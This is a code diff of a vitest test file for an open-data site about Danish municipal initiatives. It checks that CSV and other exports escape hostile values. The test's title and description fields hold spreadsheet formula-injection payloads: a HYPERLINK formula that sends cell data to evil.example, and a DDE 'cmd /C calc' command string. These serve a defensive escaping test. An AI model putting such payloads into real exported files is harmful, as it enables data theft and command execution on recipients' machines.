@@ -7,7 +7,8 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CONTENT, DIST, contentEntries, page } from '../helpers/dist';
 import { validate } from '../helpers/json-schema-validator';
-import { buildFixture, PROJECT_ROOT } from '../helpers/fixture-site';
+import { buildFixture } from '../helpers/fixture-site';
+import { fixtureText } from '../helpers/fixture-text';
 
 type Row = Record<string, unknown>;
 const NAMES = ['kommuner', 'indsatser', 'strategier', 'indgange', 'interviewsvar'] as const;
@@ -141,7 +142,7 @@ describe('the open data, overall', () => {
 
 describe('escaping per format, in a fixture build', () => {
   const INITIATIVE = 'content/indsatser/aalborg/startup-cafeer.yaml';
-  const original = readFileSync(path.join(PROJECT_ROOT, 'tests/fixtures/minimal', INITIATIVE), 'utf8');
+  const original = fixtureText(INITIATIVE);
   const title = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
   const description = '@SUM(1+1)*cmd|" /C calc"!A0 <b>&amp;</b>';
   const result = buildFixture('open-data-escaping', {
